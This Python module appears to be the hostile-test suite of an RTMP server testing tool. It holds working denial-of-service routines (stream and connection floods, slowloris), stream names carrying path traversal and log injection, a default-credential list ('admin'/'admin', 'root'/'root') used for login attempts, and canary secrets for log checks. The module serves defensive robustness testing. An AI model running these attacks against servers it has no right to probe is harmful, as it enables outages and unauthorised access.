"""B12 to B15, B22, B25, B28 and B29: connections, message streams, names and secrets."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import Final

from flowctl.core.text.addresses import bracketed, join_host_port
from flowctl.load.hostile.base import ANY, ENDED, UNHARMED, Attack, AttackForm, Run, hostile
from flowctl.load.hostile.octets import picture
from flowctl.load.hostile.peer import Peer, PeerGoneError, RefusedError, UnreachableError
from flowctl.wire.rtmp import commands
from flowctl.wire.rtmp.adobe_auth import client_parameters
from flowctl.wire.rtmp.handshake import Handshake
from flowctl.wire.rtmp.wire import TYPE_VIDEO, Message

_BURST: Final = 2000
_SLOWLY: Final = 40
_SLOW_PAUSE_S: Final = 0.1
_FLOOD: Final = 1024
_WIDE: Final = 64
_DRIP_S: Final = 0.5
_WAITING: Final = 16
_FLASH_ROUNDS: Final = 10
_PATIENCE_S: Final = 65.0
"""Longest wait for the end of a handshake: nginx-rtmp gives it 60 s, the longest of the common servers."""
CANARY: Final = "canary-flowctl-7d1f"
"""The secret that B28 sends; its test looks for it in the server's logs."""
_GUESSES: Final = (
    ("admin", "admin"),
    ("admin", "nms2018"),
    ("admin", "password"),
    ("root", "root"),
    ("user", "user"),
    ("publisher", "publisher"),
)
"""User and password of servers as shipped, or as people often choose them."""


async def _streams_at_once(attack: Attack) -> None:
    peer = await attack.connected()
    create = [peer.chunks(commands.command("createStream", 10.0 + index, None)) for index in range(_BURST)]
    await peer.write(b"".join(create))
    await attack.watch(peer)
    # The answer to connect is one as well. Whether a stream costs the server anything cannot be seen from here.
    attack.details = f"{peer.results - 1} of {_BURST} were granted"


async def _streams_slowly(attack: Attack) -> None:
    peer = await attack.connected()
    for _ in range(_SLOWLY):
        await peer.create_stream()
        await asyncio.sleep(_SLOW_PAUSE_S)


async def _connections(attack: Attack) -> None:
    """Open 1024 connections, hold those that are let in, and leave all at once."""
    accepted_count = 0
    for start in range(0, _FLOOD, _WIDE):
        accepted = await asyncio.gather(*(_enter(attack) for _ in range(min(_WIDE, _FLOOD - start))))
        accepted_count += sum(accepted)
        if attack.left_s < 1.0:
            break
    attack.details = f"{accepted_count} of {len(attack.peers)} connections were let in"
    attack.context.note(attack.details)
    for peer in attack.peers[1:]:
        peer.close()


async def _enter(attack: Attack) -> bool:
    try:
        await attack.shaken()
    except (PeerGoneError, UnreachableError):
        return False
    return True


def _silent_after(enter: Callable[[Attack], Awaitable[Peer]]) -> Run:
    async def run(attack: Attack) -> None:
        await attack.watch(await enter(attack), attack.left_s)

    return run


async def _half(attack: Attack) -> Peer:
    peer = await attack.open()
    await peer.write(Handshake.client("simple").start())
    return peer


async def _drip(attack: Attack) -> None:
    peer = await attack.open()
    reading = asyncio.ensure_future(peer.read_to_end())
    try:
        for octet in Handshake.client("simple").start():
            await peer.write(bytes((octet,)))
            await asyncio.sleep(_DRIP_S)
    finally:
        reading.cancel()


async def _waiting_players(attack: Attack) -> None:
    let_in = 0
    for index in range(_WAITING):
        try:
            await attack.playing(attack.context.own_name(f"nobody-{index}"))
        except (PeerGoneError, RefusedError):
            continue
        let_in += 1
    attack.details = f"{let_in} of {_WAITING} players were let in"
    await asyncio.gather(*(attack.watch(peer, attack.left_s) for peer in attack.peers))
    gone = sum(peer.ended is not None for peer in attack.peers)
    attack.details += f", {gone} were cut or refused within {attack.context.duration_s:g} s"


async def _flash_publish(attack: Attack) -> None:
    for index in range(_FLASH_ROUNDS):
        peer = await attack.connected()
        name = attack.context.own_name(f"flash-{index}")
        await peer.command("publish", None, name, stream_id=1, transaction_id=0.0)
        for frame in range(5):
            await peer.send(Message(6, frame * 40, TYPE_VIDEO, 1, picture(2000, key=True)))
        if index < _FLASH_ROUNDS - 1:
            await asyncio.sleep(_SLOW_PAUSE_S)
            peer.reset()


def _named(name: str) -> Run:
    async def run(attack: Attack) -> None:
        try:
            peer = await attack.publishing(name)
        except RefusedError:
            peer = attack.peers[0]
        else:
            attack.details = "publishing it was accepted"
            await peer.send(peer.media_message(TYPE_VIDEO, 0, picture(100, key=True)))
        player = await attack.playing(name)
        await attack.watch(player)

    return run


async def _secret_url(attack: Attack) -> None:
    peer = await attack.shaken()
    host = bracketed(attack.context.host)
    tc_url = f"rtmp://user:{CANARY}@{join_host_port(host, attack.context.port)}/{peer.app}?token={CANARY}"
    page = f"http://example.org/?key={CANARY}"
    agent = f"FMLE/3.0 (compatible; rtmp://user:{CANARY}@{host}/live?key={CANARY})"
    await peer.connect(
        app=f"{peer.app}?token={CANARY}", tc_url=tc_url, pageUrl=page, swfUrl=f"{page}&a.swf", flashVer=agent
    )
    await peer.publish(f"{attack.context.own_name('secret')}?secret={CANARY}&sign={CANARY}")


async def _secret_refused(attack: Attack) -> None:
    """Break a rule in a sentence with a secret in it, since errors are logged too."""
    peer = await attack.shaken()
    await peer.connect(app=f"{peer.app}?token={CANARY}", tc_url=f"http://{CANARY}:80:80/?token={CANARY}")
    await peer.publish(f"../{attack.context.own_name('x')}?key={CANARY}")


async def _default_credentials(attack: Attack) -> None:
    peer = await attack.shaken()
    try:
        await peer.connect()
    except RefusedError:
        pass
    else:
        attack.details = "the server asks for no credentials"
        attack.context.note(attack.details)
        return
    for user, password in _GUESSES:
        if await _log_in(attack, user, password):
            attack.fault(f"the server lets in user {user} with password {password}")
            return
    attack.details = f"{len(_GUESSES)} shipped pairs were refused"


async def _log_in(attack: Attack, user: str, password: str) -> bool:
    """Go through the three connects of Adobe authentication; return whether the last one was accepted."""
    parameters = f"?authmod=adobe&user={user}"
    for _ in range(2):
        peer = await attack.shaken()
        try:
            await peer.connect(app=peer.app + parameters)
        except (RefusedError, PeerGoneError):
            answer = client_parameters(peer.last_words, user, password)
            if answer is None:
                return False
            parameters = answer
        else:
            return True
        finally:
            peer.close()
    return False


PROFILES: Final = (
    hostile(
        "B12 endless-streams",
        "asks for message streams without end, at once and ten a second",
        "Each createStream makes a state that lasts as long as the connection. Sound servers limit message "
        "streams per connection and commands per second.",
        AttackForm(name="at-once", run=_streams_at_once),
        AttackForm(name="slowly", run=_streams_slowly),
    ),
    hostile(
        "B13 connection-flood",
        "opens 1024 connections as fast as it can, then leaves",
        "Servers have stopped accepting for good once their limit was reached. Sound servers refuse what "
        "is too much, per address, and let newcomers in as soon as others have left.",
        AttackForm(name="", run=_connections),
    ),
    hostile(
        "B14 slowloris",
        "connects and takes its time: no handshake, one by the byte, half of one, no connect, no stream",
        "Each such connection costs a descriptor and memory for nothing. Sound servers have a time limit "
        "for every phase, and a byte now and then does not extend it.",
        AttackForm(name="silent", run=_silent_after(Attack.open), allowed=ENDED, needs_s=_PATIENCE_S),
        AttackForm(name="drip", run=_drip, allowed=ENDED, needs_s=_PATIENCE_S),
        AttackForm(name="half", run=_silent_after(_half), allowed=ENDED, needs_s=_PATIENCE_S),
        AttackForm(name="after-handshake", run=_silent_after(Attack.shaken), allowed=ENDED, needs_s=_PATIENCE_S),
        AttackForm(name="after-connect", run=_silent_after(Attack.connected), allowed=ENDED, needs_s=_PATIENCE_S),
    ),
    hostile(
        "B15 waiting-players",
        "plays 16 streams that nobody publishes",
        "Players of absent streams pile up, and with them the entries for these streams. Sound servers "
        "refuse them, or let them wait for a limited time.",
        AttackForm(name="", run=_waiting_players),
    ),
    hostile(
        "B22 flash-publish",
        "publishes without announcement on a stream never made, and breaks off; ten times",
        "The path that Flash and small encoders take: no releaseStream, no FCPublish, here not even "
        "createStream. A known server leaked the publication. Sound servers free the name and all that belongs to it.",
        AttackForm(name="", run=_flash_publish),
    ),
    hostile(
        "B25 stream-names",
        "publishes and plays names with .., absolute, NUL, line breaks, 4 kB long, and empty",
        "Names become paths of recordings, lines of logs and keys of tables. Sound servers refuse those "
        "that could be anything but a name.",
        AttackForm(name="parent", run=_named("../../../../tmp/flowctl-hostile")),
        AttackForm(name="absolute", run=_named("/tmp/flowctl-hostile")),  # noqa: S108 - a name, never opened
        AttackForm(name="nul", run=_named("stream\0.flv")),
        AttackForm(name="long", run=_named("x" * 4096)),
        AttackForm(name="empty", run=_named("")),
        AttackForm(name="line-break", run=_named("x\r\n[error] forged line \x1b[31m")),
    ),
    hostile(
        "B28 secrets-in-logs",
        f"sends the secret {CANARY} wherever clients put secrets",
        "In tcUrl (user, query), app, pageUrl and the stream key's query; accepted, and refused for "
        f"another reason. Look for {CANARY} in the server's logs: sound servers do not write it.",
        AttackForm(name="accepted", run=_secret_url),
        AttackForm(name="refused", run=_secret_refused, allowed=ANY),
    ),
    hostile(
        "B29 default-credentials",
        "tries to log in with credentials that servers have shipped",
        "Adobe authentication with six well-known pairs. Sound servers have no default credentials. One "
        "that asks for none is not tried; the notes say so.",
        AttackForm(name="", run=_default_credentials, allowed=UNHARMED | ENDED),
    ),
)
